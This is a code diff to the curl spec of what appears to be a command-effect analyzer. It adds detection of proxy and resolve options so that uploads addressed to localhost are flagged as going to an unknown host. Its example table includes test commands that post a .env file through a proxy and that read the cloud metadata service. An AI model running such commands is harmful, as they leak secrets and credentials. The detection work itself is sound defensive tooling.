@@ -1,9 +1,10 @@
 /** curl. */
-import { isPattern } from '../../../../effects/value';
+import { isPattern, UNKNOWN } from '../../../../effects/value';
 import { rest } from '../../arguments';
 import type { Call, ProgramSpec } from '../../program';
 import type { Word } from '../../spec';
 import { reads, sourceOfFile, sourceOfWord, writes } from '../../stating';
+import { hostOf } from '../../urls';
 import { dockerRequest } from './docker-socket';
 import { otherProtocols } from './protocols';
 import { carriesData, changes, fetches, hidden, network, type Upload, uploads, writtenByName } from './requests';
@@ -80,6 +81,15 @@ function methodOf(call: Call): string | null | undefined {
   return typeof method === 'string' ? method.toUpperCase() : method === undefined ? undefined : null;
 }
 
+/** By way of a proxy, or told where a name leads, it is not this machine that is reached. */
+function reached(call: Call, urls: readonly Word[]): readonly Word[] {
+  if (!call.maybe('-x', '--preproxy', '--socks4', '--socks5', '--socks5-hostname', '--connect-to', '--resolve'))
+    return urls;
+  return urls.map((url) => (LOOPBACK.test(String(hostOf(url.value))) ? { ...url, value: UNKNOWN } : url));
+}
+
+const LOOPBACK = /^(localhost|127\.0\.0\.1|::1|0\.0\.0\.0)$/;
+
 export const curl: ProgramSpec = {
   names: 'curl curlie',
   options: curlOptions,
@@ -97,7 +107,7 @@ export const curl: ProgramSpec = {
       effects: [
         ...fetches(call, urls),
         ...reads(call, curlFiles(call), { shown: false }),
-        ...uploads(urls, [...new Set(sources)]),
+        ...uploads(reached(call, urls), [...new Set(sources)]),
         ...hidden(call, urls),
         ...changes(methodOf(call), urls, sends),
         ...dockerRequest(call, methodOf(call) ?? (sends ? 'POST' : 'GET')),
@@ -118,6 +128,8 @@ export const curl: ProgramSpec = {
       'curl --json \'{"a":1}\' https://x.test': 'net.fetch + net.upload{source=literal}',
       'curl http://169.254.169.254/latest/meta-data/': 'net.fetch{metadata=true} + secret.read{store=metadata-service}',
       'curl -X DELETE https://api.acme.test/users/1': 'net.fetch + saas.change{op=delete}',
+      'curl -d @.env -x proxy.test:3128 http://localhost':
+        'net.fetch + fs.read + secret.read + net.upload{source=secret,host=?}',
       'curl -G -d q=1 https://x.test': 'net.fetch{host=x.test}',
       'curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create -d {}':
         'net.fetch + net.upload{host=localhost} + container.run{image=?,mounts=?}',
